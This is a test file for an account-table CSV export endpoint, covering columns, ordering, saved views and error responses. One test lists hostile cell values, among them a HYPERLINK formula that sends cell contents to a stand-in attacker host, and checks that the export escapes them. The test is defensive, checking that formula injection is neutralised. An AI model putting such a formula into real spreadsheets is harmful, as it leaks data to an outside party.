import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestApp, type TestApp, type TestWorkspace } from '../../kit/app.ts';
import { giveAccounts } from '../../kit/connected-workspace.ts';
import { readCsv } from '../../kit/read-csv.ts';
import { giveTable, sortTable, type TableRow } from '../../kit/table-accounts.ts';

let app: TestApp;
let workspace: TestWorkspace;
let rows: TableRow[];
beforeAll(async () => {
  app = await startTestApp();
  workspace = await app.workspace();
  rows = await giveTable(app, workspace, 60, 4);
});
afterAll(() => app.close());

const PATH = '/export/accounts.csv';
async function get(search = '', init: RequestInit = {}, of: TestWorkspace = workspace) {
  const headers = { authorization: `Bearer ${of.keys.MEMBER}` };
  const response = await fetch(`${app.url}${PATH}${search}`, { headers, ...init });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  const isCsv = response.headers.get('content-type')?.startsWith('text/csv');
  return { status: response.status, headers: response.headers, text, cells: isCsv ? readCsv(text) : [] };
}
const idsOf = (cells: readonly (readonly string[])[]) => cells.slice(1).map(([id]) => id);
const written = (row: TableRow) => (/^[=+\-@]/.test(row.externalCrmId) ? `'${row.externalCrmId}` : row.externalCrmId);

describe('the account table as CSV', () => {
  test('has a row for each account and a column for each fact and metric', async () => {
    const { status, headers, cells } = await get('?orderBy=EXTERNAL_CRM_ID');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe('attachment; filename="accounts-2026-03-10.csv"');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(cells[0]).toEqual([
      ...['externalCrmId', 'name', 'plan', 'region', 'owner', 'seats', 'arr', 'renewalOn'],
      ...['healthScore', 'healthBand', 'healthChange', 'activityIndex', 'activityChange', 'lastUsedOn'],
      ...['openSignals', 'worstSeverity', 'usage.calls', 'usage.seats used', 'usage.tickets'],
    ]);
    const text = (value: string | number | null | undefined) => {
      if (typeof value === 'string' && /^[=+\-@]/.test(value)) return `'${value}`;
      return value === null || value === undefined ? '' : String(value);
    };
    const expected = sortTable(rows, ({ externalCrmId }) => externalCrmId, 'ASC').map((row) =>
      [
        ...[row.externalCrmId, row.name, row.plan, row.region, row.owner, row.seats, row.arr, row.renewalOn],
        ...[row.healthScore, row.healthBand, row.healthChange, row.activityIndex, row.activityChange, row.lastUsedOn],
        ...[row.openSignals, ['LOW', 'MEDIUM', 'HIGH', 'CRITICAL'][(row.worstSeverity ?? 0) - 1]],
        ...[row.usage?.[0], row.usage?.[1], row.usage?.[2]],
      ].map(text),
    );
    expect(cells.slice(1)).toEqual(expected);
  });

  test('takes an order, a text and a mark of its encoding', async () => {
    const { text, cells } = await get('?orderBy=USAGE&metric=calls&direction=DESC&q=zo&bom=true');
    const found = rows.filter(({ name }) => /zo/i.test(name));
    expect(idsOf(cells)).toEqual(sortTable(found, ({ usage }) => usage?.[0] ?? null, 'DESC').map(written));
    expect([text.charCodeAt(0), (await get()).text.startsWith('externalCrmId,')]).toEqual([0xfeff, true]);
  });

  test('of a view has its filter, order, columns and name; an order given beside it counts', async () => {
    const input = {
      name: 'Größte "Kunden"/EU',
      filter: { seats: { min: 5 } },
      orderBy: { field: 'ARR', direction: 'DESC' },
      columns: [
        { field: 'EXTERNAL_CRM_ID' },
        { field: 'USAGE_CHANGE', metric: 'tickets' },
        { field: 'USAGE', metric: 'calls' },
      ],
    };
    const { createSavedView } = await workspace
      .as('MEMBER')
      .ask('mutation ($input: CreateSavedViewInput!) { createSavedView(input: $input) { savedView { id } } }', {
        input,
      });
    const view = createSavedView.savedView.id;
    const { cells, headers } = await get(`?view=${view}`);
    const found = rows.filter(({ seats }) => (seats ?? 0) >= 5);
    expect(cells).toEqual([
      ['externalCrmId', 'usageChange.tickets', 'usage.calls'],
      ...sortTable(found, ({ arr }) => arr, 'DESC').map((row) => [
        written(row),
        String(row.usageChange?.[2] ?? ''),
        String(row.usage?.[0] ?? ''),
      ]),
    ]);
    expect(headers.get('content-disposition')).toBe(
      `attachment; filename="accounts-2026-03-10.csv"; filename*=UTF-8''${encodeURIComponent('Größte -Kunden--EU 2026-03-10.csv')}`,
    );
    const bySeats = await get(`?view=${view}&orderBy=SEATS&direction=ASC`);
    expect(idsOf(bySeats.cells)).toEqual(sortTable(found, ({ seats }) => seats, 'ASC').map(written));
  });

  test('of a workspace without accounts has its first line alone', async () => {
    const { text } = await get('', {}, await app.workspace());
    expect(text).toMatch(/^externalCrmId,[A-Za-z,]+worstSeverity\r\n$/);
  });

  test('formulas, quotes and line ends of a customer’s customer are text', async () => {
    const hostile = await app.workspace();
    const names = [
      '=HYPERLINK("http://evil.example?"&A1,"ok")',
      '+1',
      '-1',
      '@x',
      'a\r\n=1',
      '\t=1',
      '"',
      'a,b',
      '＝1',
      'b;=1',
    ];
    // The API trims what surrounds a name; ids keep blanks beyond ASCII.
    await giveAccounts(
      hostile.as('MEMBER'),
      names.map((name, index) => ({ externalCrmId: `${index}`, name: `${name}`, owner: name, arr: -index })),
    );
    const { cells } = await get('?orderBy=EXTERNAL_CRM_ID', {}, hostile);
    const owners = cells.slice(1).map((row) => row[4]);
    expect(owners).toEqual([
      `'=HYPERLINK("http://evil.example?"&A1,"ok")`,
      "'+1",
      "'-1",
      "'@x",
      "a\r\n'=1",
      "'\t'=1",
      '"',
      'a,b',
      "'＝1",
      "b;'=1",
    ]);
    expect(cells.slice(1).map((row) => row[6])).toEqual(names.map((_, index) => String(-index)));
  });

  test('a HEAD has the same head and no body', async () => {
    const { status, headers, text } = await get('', { method: 'HEAD', headers: auth() });
    expect([status, headers.get('content-type'), text]).toEqual([200, 'text/csv; charset=utf-8; header=present', '']);
  });
});

const auth = (key = workspace.keys.MEMBER) => ({ authorization: `Bearer ${key}` });

describe('refused as JSON', () => {
  test.each([
    ['no key', '', { headers: {} }, 401, 'UNAUTHENTICATED'],
    ['a key that does not work', '', { headers: { authorization: 'Bearer nope' } }, 401, 'UNAUTHENTICATED'],
    ['a view that is not there', '?view=view_x', {}, 404, 'NOT_FOUND'],
    ['an unknown parameter', '?plan=pro', {}, 400, 'BAD_USER_INPUT'],
    ['an unknown order', '?orderBy=COLOUR', {}, 400, 'BAD_USER_INPUT'],
    ['an unknown metric', '?orderBy=USAGE&metric=nope', {}, 400, 'BAD_USER_INPUT'],
    ['no metric', '?orderBy=USAGE', {}, 400, 'BAD_USER_INPUT'],
    ['NUL', '?q=%00', {}, 400, 'BAD_USER_INPUT'],
    ['a text of 201 characters', `?q=${'x'.repeat(201)}`, {}, 400, 'BAD_USER_INPUT'],
    ['a POST', '', { method: 'POST' }, 405, 'BAD_REQUEST'],
    ['a DELETE', '', { method: 'DELETE' }, 405, 'BAD_REQUEST'],
  ])('%s', async (_, search, init, status, code) => {
    const answer = await get(search, { headers: auth(), ...init });
    expect([answer.status, answer.headers.get('content-type')]).toEqual([status, 'application/json; charset=utf-8']);
    expect(JSON.parse(answer.text)).toEqual({ errors: [{ message: expect.any(String), extensions: { code } }] });
    expect(answer.headers.get('allow')).toBe(status === 405 ? 'GET, HEAD, OPTIONS' : null);
  });

  test("another workspace's view is not there", async () => {
    const other = await app.workspace();
    const { createSavedView } = await other
      .as('MEMBER')
      .ask('mutation { createSavedView(input: { name: "theirs" }) { savedView { id } } }');
    expect((await get(`?view=${createSavedView.savedView.id}`)).status).toBe(404);
  });

  test('a path beside it is nothing, and a browser may ask first', async () => {
    expect((await fetch(`${app.url}/export/accounts.csv/x`, { headers: auth() })).status).toBe(404);
    const preflight = await fetch(`${app.url}${PATH}`, { method: 'OPTIONS' });
    expect([preflight.status, preflight.headers.get('access-control-allow-methods')]).toEqual([204, 'GET, HEAD']);
  });
});
